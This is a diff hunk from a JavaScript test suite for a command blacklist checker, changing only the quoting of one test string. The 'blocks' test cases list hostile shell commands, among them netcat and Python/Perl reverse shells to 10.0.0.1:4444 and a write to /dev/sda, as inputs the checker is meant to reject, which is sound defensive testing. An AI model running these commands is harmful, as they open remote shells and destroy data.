@@ -214,7 +214,7 @@ describe('checkCommandBlacklist: evasions', () => {
     ['source <(echo "sudo ls")'],
     ['printf "reboot\\n" | bash'],
     ['nc 10.0.0.1 4444 | /bin/sh'],
-    ["python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"],
+    ['python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''],
     ['perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i");\''],
     ['echo x | tee /dev/sda'],
   ])('blocks %j', (command) => {
